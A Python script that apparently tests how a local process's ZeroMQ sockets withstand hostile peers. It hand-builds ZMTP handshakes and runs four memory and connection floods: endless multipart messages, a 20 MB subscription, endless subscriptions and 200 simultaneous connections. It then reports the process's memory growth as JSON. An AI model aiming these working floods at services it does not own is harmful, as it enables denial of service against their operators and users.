"""Attack listening ZeroMQ sockets of a process with bytes of our own; print what it cost the process as JSON.

    attack_sockets.py PID multipart ENDPOINT TYPE     a message whose parts never end, from a socket of a type (PUB, REQ)
    attack_sockets.py PID subscription ENDPOINT       one subscription of 20 MB
    attack_sockets.py PID subscriptions ENDPOINT      subscriptions of 1000 bytes without end
    attack_sockets.py PID crowd ENDPOINT TYPE         200 connections at once
"""

import json
import os
import socket
import struct
import sys
import time

GREETING = b"\xff" + bytes(8) + b"\x7f\x03\x00" + b"NULL".ljust(20, b"\0") + b"\0" + bytes(31)
MOST_BYTES = 2 << 30
MOST_SECONDS = 8


def resident_bytes(pid):
    with open(f"/proc/{pid}/statm") as file:
        return int(file.read().split()[1]) * os.sysconf("SC_PAGE_SIZE")


def frame(body, flags=0):
    return struct.pack(">BQ", flags | 2, len(body)) + body


def connect(endpoint, kind):
    host, port = endpoint.removeprefix("tcp://").rsplit(":", 1)
    peer = socket.create_connection((host, int(port)), timeout=5)
    ready = b"\x05READY" + b"\x0bSocket-Type" + struct.pack(">I", len(kind)) + kind.encode()
    peer.sendall(GREETING + struct.pack(">BB", 4, len(ready)) + ready)
    received = b""
    while len(received) < 64:
        piece = peer.recv(4096)
        if not piece:
            raise ConnectionError("cut off in the handshake")
        received += piece
    return peer


def flood(pid, peer, pieces):
    """Sends until the peer ends the connection; the largest memory meanwhile, and a second later."""
    largest, sent, cut, end = resident_bytes(pid), 0, False, time.monotonic() + MOST_SECONDS
    peer.settimeout(2)
    try:
        for piece in pieces:
            peer.sendall(piece)
            sent += len(piece)
            largest = max(largest, resident_bytes(pid))
            if sent > MOST_BYTES or time.monotonic() > end:
                break
        peer.settimeout(2)
        while peer.recv(65536):
            largest = max(largest, resident_bytes(pid))
        cut = True
    except ConnectionError:
        cut = True
    except TimeoutError:
        pass
    for _ in range(20):
        time.sleep(0.05)
        largest = max(largest, resident_bytes(pid))
    return {"sent": sent, "largest": largest, "cut": cut}


def endless(piece):
    while True:
        yield piece


def main():
    pid, attack, endpoint, *rest = sys.argv[1:]
    before = resident_bytes(pid)
    if attack == "crowd":
        peers, refused = [], 0
        for _ in range(200):
            try:
                peers.append(connect(endpoint, rest[0]))
            except OSError:
                refused += 1
        time.sleep(0.5)
        for peer in peers:
            peer.setblocking(False)
            try:
                while True:
                    if peer.recv(65536) == b"":
                        refused += 1
                        break
            except BlockingIOError:
                pass
            except ConnectionError:
                refused += 1
        result = {"sent": 200, "largest": resident_bytes(pid), "cut": refused > 0, "refused": refused}
    elif attack == "multipart":
        part = frame(bytes(60_000 if rest[0] == "PUB" else 4000), flags=1)
        result = flood(pid, connect(endpoint, rest[0]), endless(part * 16))
    elif attack == "subscription":
        result = flood(pid, connect(endpoint, "SUB"), [frame(b"\x01" + os.urandom(20 << 20))])
    else:
        result = flood(pid, connect(endpoint, "SUB"), (frame(b"\x01" + os.urandom(1000)) for _ in endless(0)))
    print(json.dumps({"before": before, **result}))


main()
